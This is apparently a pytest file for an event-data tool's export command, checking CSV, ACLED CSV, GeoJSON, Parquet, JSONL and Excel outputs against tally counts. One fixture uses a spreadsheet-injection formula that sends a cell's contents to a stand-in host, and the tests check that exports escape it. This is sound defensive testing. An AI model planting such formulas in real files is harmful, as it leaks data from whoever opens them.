"""`eventledger export`: every format read back by the tools analysts use, against the tally's counts.

The store is the demo plus one report of an act whose place the text does not give (an event without
coordinates, which no format may drop) and one from an outlet whose name is a spreadsheet formula.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import math
import re
import shutil
from pathlib import Path
from typing import Any

import duckdb
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from sqlalchemy import event

from eventledger.cli import cli
from eventledger.extract.codebook import load_codebook
from eventledger.pipeline import Ingestor
from eventledger.report import exports
from eventledger.report.formats import EVENT_CSV_COLUMNS
from eventledger.store import queries, scan
from eventledger.store.db import Store

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
# ACLED's event types and their sub-event types (ACLED codebook), with the disorder type of each
ACLED_TYPES = {
    "Battles": ("Political violence", {"Armed clash", "Government regains territory",
                                       "Non-state actor overtakes territory"}),
    "Explosions/Remote violence": ("Political violence", {"Chemical weapon", "Air/drone strike", "Suicide bomb",
                                   "Shelling/artillery/missile attack", "Remote explosive/landmine/IED", "Grenade"}),
    "Violence against civilians": ("Political violence", {"Sexual violence", "Attack",
                                   "Abduction/forced disappearance"}),
    "Protests": ("Demonstrations", {"Peaceful protest", "Protest with intervention",
                                    "Excessive force against protesters"}),
    "Riots": ("Demonstrations", {"Violent demonstration", "Mob violence"}),
    "Strategic developments": ("Strategic developments", {"Agreement", "Arrests", "Change to group/activity",
                               "Disrupted weapons use", "Headquarters or base established",
                               "Looting/property destruction", "Non-violent transfer of territory", "Other"}),
}  # fmt: skip


@pytest.fixture(scope="module")
def export_db(demo_db: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("export") / "export.db"
    shutil.copy(demo_db, path)
    extra = path.parent / "extra.jsonl"
    records = [
        {"id": "w-1", "outlet": "Wire", "lang": "en", "published": "2023-02-18T09:00:00+03:30",
         "text": "Gunmen opened fire on a bus on Friday, police said."},
        {"id": "h-1", "outlet": FORMULA, "lang": "en", "published": "2023-02-18T09:00:00+03:30",
         "url": "https://evil.example/a",
         "text": "Supporters set fire to a large banner in Shiraz on Friday night, witnesses said."},
    ]  # fmt: skip
    extra.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    store = Store.open(path)
    Ingestor(store).ingest([extra])
    store.close()
    return path


@pytest.fixture
def conn(export_db: Path) -> Any:
    store = Store.open(export_db)
    with store.connect() as c:
        yield c
    store.close()


def _meta(conn: Any, flt: queries.EventFilter) -> exports.ExportMeta:
    return exports.export_meta(conn, flt, generated_at=dt.datetime(2026, 12, 3, 4, 30, tzinfo=dt.UTC))


def _export(conn: Any, fmt: str, flt: queries.EventFilter | None = None) -> tuple[bytes, exports.ExportCount]:
    flt = flt or queries.EventFilter()
    buf = io.BytesIO()
    count = exports.write_live(conn, fmt, flt, _meta(conn, flt), buf)
    return buf.getvalue(), count


def _total(conn: Any, flt: queries.EventFilter | None = None) -> int:
    return int(queries.tally(conn, flt or queries.EventFilter())["total"])


def _run(db: Path, *args: str) -> Any:
    return CliRunner().invoke(cli, ["--db", str(db), *args], catch_exceptions=False)


def _sheets(source: Path | bytes) -> dict[str, list[tuple[Any, ...]]]:
    """Every sheet's rows (the workbook closed again: a read-only one holds its file open)."""
    wb = load_workbook(io.BytesIO(source) if isinstance(source, bytes) else source, read_only=True)
    try:
        return {name: list(wb[name].iter_rows(values_only=True)) for name in wb.sheetnames}
    finally:
        wb.close()


def _jsonl_ids(db: Path, *filters: str) -> list[int]:
    res = _run(db, "events", *filters, "--format", "jsonl")
    assert res.exit_code == 0, res.stderr
    return [json.loads(line)["id"] for line in res.stdout.splitlines()]


# --- reading the store ------------------------------------------------------------------------------------------
FILTERS = (
    queries.EventFilter(),
    queries.EventFilter(category="propaganda"),
    queries.EventFilter(country="IR", claim_status="claimed"),
    queries.EventFilter(outlet="Wire"),
)


@pytest.mark.parametrize("page", [1, 7, 5000])
def test_pages_give_the_events_of_list_events_in_id_order(conn, page):
    for flt in FILTERS:
        expected = sorted(queries.iter_events(conn, flt), key=lambda e: e["id"])
        assert list(scan.iter_events(conn, flt, size=page)) == expected


def test_pages_start_at_their_key_never_at_an_offset(conn):
    seen: list[str] = []

    def note(_conn: Any, _cursor: Any, statement: str, *_: Any) -> None:
        if "FROM events" in statement:
            seen.append(statement)

    engine = conn.engine
    event.listen(engine, "before_cursor_execute", note)
    try:
        n = sum(len(p.events) for p in scan.pages(conn, queries.EventFilter(), size=50))
    finally:
        event.remove(engine, "before_cursor_execute", note)
    assert n == _total(conn)
    assert len(seen) == math.ceil(n / 50) + (n % 50 == 0)  # the last read finds nothing when n is a multiple
    assert all("events.id > ?" in s and s.rstrip().endswith("OFFSET ?") for s in seen)


@pytest.mark.parametrize("page", [3, 5000])
def test_parquet_from_pages_is_the_parquet_of_the_events(conn, page, monkeypatch):
    """The column-by-column Parquet of the live store is the file written from event dicts."""
    monkeypatch.setattr(exports, "PARQUET_ROW_GROUP", 10)
    for flt in FILTERS:
        meta = _meta(conn, flt)
        a, b = io.BytesIO(), io.BytesIO()
        count_a = exports.write_export("parquet", scan.iter_events(conn, flt), meta, a)
        count_b = exports.ExportCount()
        for chunk in exports.parquet_page_chunks(scan.pages(conn, flt, size=page), meta, count_b):
            b.write(chunk)
        assert count_a == count_b
        ta, tb = pq.read_table(io.BytesIO(a.getvalue())), pq.read_table(io.BytesIO(b.getvalue()))
        assert ta.equals(tb) and ta.schema.equals(tb.schema, check_metadata=True)
        assert ta.num_rows == _total(conn, flt)


# --- CSV and JSONL ---------------------------------------------------------------------------------------------
def test_csv_has_the_columns_of_events_csv_and_escapes_formulas(conn):
    data, count = _export(conn, "csv")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
    assert tuple(rows[0]) == EVENT_CSV_COLUMNS
    assert len(rows) == count.events == _total(conn)
    outlets = " ".join(r["source_outlets"] for r in rows)
    assert "'" + FORMULA in outlets and not any(r["source_outlets"].startswith("=") for r in rows)


def test_jsonl_has_the_lines_of_the_events_command_in_id_order(export_db, conn):
    data, _ = _export(conn, "jsonl", queries.EventFilter(category="violence"))
    res = _run(export_db, "events", "--category", "violence", "--format", "jsonl")
    lines = data.decode("utf-8").splitlines()
    assert lines == sorted(res.stdout.splitlines(), key=lambda line: json.loads(line)["id"])


# --- ACLED CSV -------------------------------------------------------------------------------------------------
def test_every_subtype_of_the_codebook_has_a_valid_acled_type():
    mapping = exports.acled_mapping()
    assert set(load_codebook().subtypes) <= set(mapping)
    for subtype, kind in mapping.items():
        disorder, subs = ACLED_TYPES[kind.event_type]
        assert kind.sub_event_type in subs, subtype
        assert kind.disorder_type == disorder, subtype


def test_country_codes_give_iso3_numeric_and_acled_region():
    codes = exports.country_codes()
    assert (codes["IR"].iso3, codes["IR"].numeric, codes["IR"].region) == ("IRN", 364, "Middle East")
    middle_east = ["AE", "BH", "IL", "IQ", "IR", "JO", "KW", "LB", "OM", "PS", "QA", "SA", "SY", "TR", "YE"]
    assert all(codes[cc].region == "Middle East" for cc in middle_east)
    assert (codes["FR"].iso3, codes["FR"].numeric, codes["FR"].region) == ("FRA", 250, "Europe")
    assert codes["AF"].region == "Caucasus and Central Asia"  # as ACLED has it


def test_acled_csv_reads_in_pandas_with_acled_columns(conn):
    data, count = _export(conn, "acled-csv")
    df = pd.read_csv(io.BytesIO(data), keep_default_na=False, na_values=[""])
    assert tuple(df.columns[: len(exports.ACLED_COLUMNS)]) == exports.ACLED_COLUMNS
    assert tuple(df.columns[len(exports.ACLED_COLUMNS) :]) == exports.ACLED_EXTRA_COLUMNS
    assert len(df) == count.events == _total(conn)
    iran = df[df["country"] == "Iran"]
    assert len(iran) > 200
    assert iran["event_id_cnty"].str.fullmatch(r"IRN\d+").all()
    assert (iran["iso"] == 364).all() and (iran["region"] == "Middle East").all()
    assert set(iran["admin1"].dropna()) <= {"Tehran", "Alborz", "Fars", "Isfahan", "Khuzestan", "Kurdistan",
        "Razavi Khorasan", "Sistan and Baluchestan", "Kermanshah", "East Azerbaijan", "West Azerbaijan",
        "Gilan", "Mazandaran", "Qazvin", "Qom", "Markazi", "Hamadan", "Lorestan", "Ilam", "Kerman", "Yazd",
        "Hormozgan", "Bushehr", "Zanjan", "Semnan", "Golestan", "North Khorasan", "South Khorasan", "Ardabil",
        "Kohgiluyeh and Boyer-Ahmad", "Chaharmahal and Bakhtiari"}  # fmt: skip
    assert set(df["time_precision"]) <= {1, 2, 3}
    assert (pd.to_datetime(df["event_date"], format="%Y-%m-%d").dt.year == df["year"]).all()
    assert df["fatalities"].isna().all()  # not coded
    assert set(df["geo_precision"].dropna()) <= {1, 2, 3}
    placed = df["latitude"].notna()
    assert (
        df.loc[placed, "latitude"].between(-90, 90).all()
        and df.loc[placed, "longitude"].between(-180, 180).all()
    )
    # the unplaced event is kept, with empty coordinates
    assert (~placed).sum() == count.unplaced >= 1
    # protests as ACLED codes them: protesters of the country, the group as associated actor
    demos = df[df["subtype"] == "demonstration"]
    assert (demos["sub_event_type"] == "Peaceful protest").all() and (demos["inter1"] == 6).all()
    assert demos["actor1"].str.startswith("Protesters (").all()
    # notes are built from the fields: they never quote a report
    assert df["notes"].str.match(r"^(On|In|On or shortly before) ").all()
    assert not df["notes"].str.contains("witnesses said|police said").any()
    assert (df["dataset_version"] == "live 2026-12-03T04:30Z").all()
    assert (df["timestamp"] == int(dt.datetime(2026, 12, 3, 4, 30, tzinfo=dt.UTC).timestamp())).all()


def test_acled_csv_escapes_a_hostile_outlet(conn):
    data, _ = _export(conn, "acled-csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"))))
    source = rows[0].index("source")
    hostile = [r for r in rows[1:] if "HYPERLINK" in r[source]]
    assert hostile and all(r[source] == "'" + FORMULA for r in hostile)
    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)


# --- GeoJSON (RFC 7946) --------------------------------------------------------------------------------------------
def test_geojson_follows_rfc_7946_and_keeps_unplaced_events(conn):
    data, count = _export(conn, "geojson")
    doc = json.loads(data)
    assert doc["type"] == "FeatureCollection" and "crs" not in doc
    features = doc["features"]
    assert len(features) == count.events == doc["events"] == _total(conn)
    nulls = 0
    for f in features:
        assert f["type"] == "Feature" and isinstance(f["properties"], dict) and "crs" not in f
        g = f["geometry"]
        if g is None:
            nulls += 1
            continue
        assert g["type"] == "Point" and len(g["coordinates"]) == 2
        lon, lat = g["coordinates"]
        assert -180 <= lon <= 180 and -90 <= lat <= 90
    assert nulls == doc["unplaced"] == count.unplaced >= 1
    # [lon, lat]: Tehran is east of Greenwich and north of the equator, with lon > lat
    tehran = next(f for f in features if f["properties"]["admin1"] == "IR-23" and f["geometry"])
    assert tehran["geometry"]["coordinates"][0] > tehran["geometry"]["coordinates"][1] > 30
    assert doc["eventledger"]["codebook"].startswith("political-action@")


# --- Parquet --------------------------------------------------------------------------------------------------------
def test_parquet_reads_in_pyarrow_and_duckdb_with_the_tally_counts(conn, tmp_path):
    flt = queries.EventFilter()
    data, count = _export(conn, "parquet", flt)
    path = tmp_path / "events.parquet"
    path.write_bytes(data)
    table = pq.read_table(path)
    tally = queries.tally(conn, flt, by=["subtype"])
    assert table.num_rows == count.events == tally["total"]
    schema = table.schema
    assert schema.field("date").type == pa.date32() and schema.field("lat").type == pa.float64()
    assert schema.field("n_sources").type == pa.int32() and schema.field("id").type == pa.int64()
    assert pa.types.is_list(schema.field("sources").type)
    meta = pq.read_schema(path).metadata
    assert meta[b"dataset_version"] == b"live 2026-12-03T04:30Z"
    assert meta[b"codebook"].startswith(b"political-action@")
    assert json.loads(meta[b"eventledger"])["licence"] == exports.LICENCE
    con = duckdb.connect()
    n = con.execute("select count(*) from read_parquet(?)", [str(path)]).fetchone()
    assert n is not None and n[0] == tally["total"]
    by_cat = dict(
        con.execute("select category, count(*) from read_parquet(?) group by 1", [str(path)]).fetchall()
    )
    assert by_cat == {k: v for k, v in tally["by_category"].items() if v}
    by_sub = dict(
        con.execute("select subtype, count(*) from read_parquet(?) group by 1", [str(path)]).fetchall()
    )
    assert by_sub == {k: v for k, v in tally["by_subtype"].items() if v}
    unplaced = con.execute("select count(*) from read_parquet(?) where lat is null", [str(path)]).fetchone()
    assert unplaced is not None and unplaced[0] == count.unplaced
    outlets = con.execute(
        "select count(*) from (select unnest(sources) as s from read_parquet(?))", [str(path)]
    ).fetchone()
    assert outlets is not None and outlets[0] == count.sources


def test_parquet_is_written_in_row_groups(conn, tmp_path, monkeypatch):
    monkeypatch.setattr(exports, "PARQUET_ROW_GROUP", 50)
    data, count = _export(conn, "parquet")
    meta = pq.ParquetFile(io.BytesIO(data)).metadata
    assert meta.num_row_groups == math.ceil(count.events / 50)
    assert meta.num_rows == count.events


def test_an_empty_export_is_still_a_valid_file(conn, tmp_path):
    flt = queries.EventFilter(subtype="arson", country="FR")
    assert _total(conn, flt) == 0
    for fmt in exports.FORMAT_NAMES:
        data, count = _export(conn, fmt, flt)
        assert count.events == 0 and (data or fmt == "jsonl"), fmt  # JSONL of no events: no lines
    assert pq.read_table(io.BytesIO(_export(conn, "parquet", flt)[0])).num_rows == 0
    assert json.loads(_export(conn, "geojson", flt)[0])["features"] == []


# --- Excel ----------------------------------------------------------------------------------------------------------
def test_xlsx_has_events_sources_and_about_sheets_with_formulas_escaped(conn):
    data, count = _export(conn, "xlsx")
    sheets = _sheets(data)
    assert list(sheets) == ["events", "sources", "about"]
    events = sheets["events"]
    assert tuple(events[0]) == EVENT_CSV_COLUMNS
    assert len(events) - 1 == count.events == _total(conn)
    sources = sheets["sources"]
    assert (
        len(sources) - 1 == count.sources == sum(r[EVENT_CSV_COLUMNS.index("n_sources")] for r in events[1:])
    )
    cells = [c for r in [*events, *sources] for c in r if isinstance(c, str)]
    assert "'" + FORMULA in cells and not any(c.startswith("=") for c in cells)
    assert isinstance(events[1][EVENT_CSV_COLUMNS.index("date")], dt.datetime)  # a date cell, not text
    about = dict(sheets["about"])
    assert about["dataset version"] == "live 2026-12-03T04:30Z"
    assert about["events"] == count.events and about["events without coordinates"] == count.unplaced
    assert "CC BY 4.0" in about["licence"] and about["codebook"].startswith("political-action@")


def test_xlsx_continues_on_a_new_sheet_past_the_row_limit(conn, monkeypatch):
    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 101)
    data, count = _export(conn, "xlsx")
    sheets = _sheets(data)
    parts = [n for n in sheets if n.startswith("events")]
    assert parts[:2] == ["events", "events (2)"]
    assert sum(len(sheets[n]) - 1 for n in parts) == count.events


# --- the command -----------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("fmt", exports.FORMAT_NAMES)
def test_a_filter_gives_the_ids_of_the_events_command(export_db, tmp_path, fmt):
    filters = ("--period", "1401", "--category", "violence")
    out = tmp_path / f"x.{fmt}"
    res = _run(export_db, "export", *filters, "--format", fmt, "--out", str(out))
    assert res.exit_code == 0, res.stderr
    assert not out.with_name(out.name + ".part").exists()
    expected = _jsonl_ids(export_db, *filters)
    assert expected and f"{len(expected)} events written to {out}" in res.stderr
    if fmt == "csv":
        ids = [int(r["id"]) for r in csv.DictReader(io.StringIO(out.read_text("utf-8")))]
    elif fmt == "jsonl":
        ids = [json.loads(line)["id"] for line in out.read_text("utf-8").splitlines()]
    elif fmt == "acled-csv":
        ids = pd.read_csv(out)["eventledger_id"].tolist()
    elif fmt == "geojson":
        ids = [f["id"] for f in json.loads(out.read_text("utf-8"))["features"]]
    elif fmt == "parquet":
        ids = pq.read_table(out).column("id").to_pylist()
    else:
        rows = _sheets(out)["events"]
        ids = [r[0] for r in rows[1:]]
    assert ids == sorted(expected)  # exports list events in id order, as releases do
    if fmt in ("geojson", "acled-csv"):
        assert "0 of them have no coordinates" in res.stderr


def test_the_command_counts_unplaced_events_and_writes_text_to_stdout(export_db):
    res = _run(export_db, "export", "--format", "geojson", "--out", "-")
    assert res.exit_code == 0
    doc = json.loads(res.stdout)
    assert re.search(rf"\b{doc['unplaced']} of them have no coordinates", res.stderr) and doc["unplaced"] >= 1


def test_binary_formats_need_a_file_and_a_bad_filter_writes_nothing(export_db, tmp_path):
    res = _run(export_db, "export", "--format", "parquet", "--out", "-")
    assert res.exit_code == 2 and "binary" in res.stderr
    out = tmp_path / "x.csv"
    res = _run(export_db, "export", "--format", "csv", "--category", "violance", "--out", str(out))
    assert res.exit_code == 2 and "did you mean violence" in res.stderr
    assert not out.exists() and not out.with_name("x.csv.part").exists()


def test_a_failed_write_leaves_no_file(export_db, tmp_path, monkeypatch):
    def broken(*_: Any) -> Any:
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(exports, "write_live", broken)
    out = tmp_path / "x.csv"
    with pytest.raises(RuntimeError):
        _run(export_db, "export", "--format", "csv", "--out", str(out))
    assert list(tmp_path.iterdir()) == []
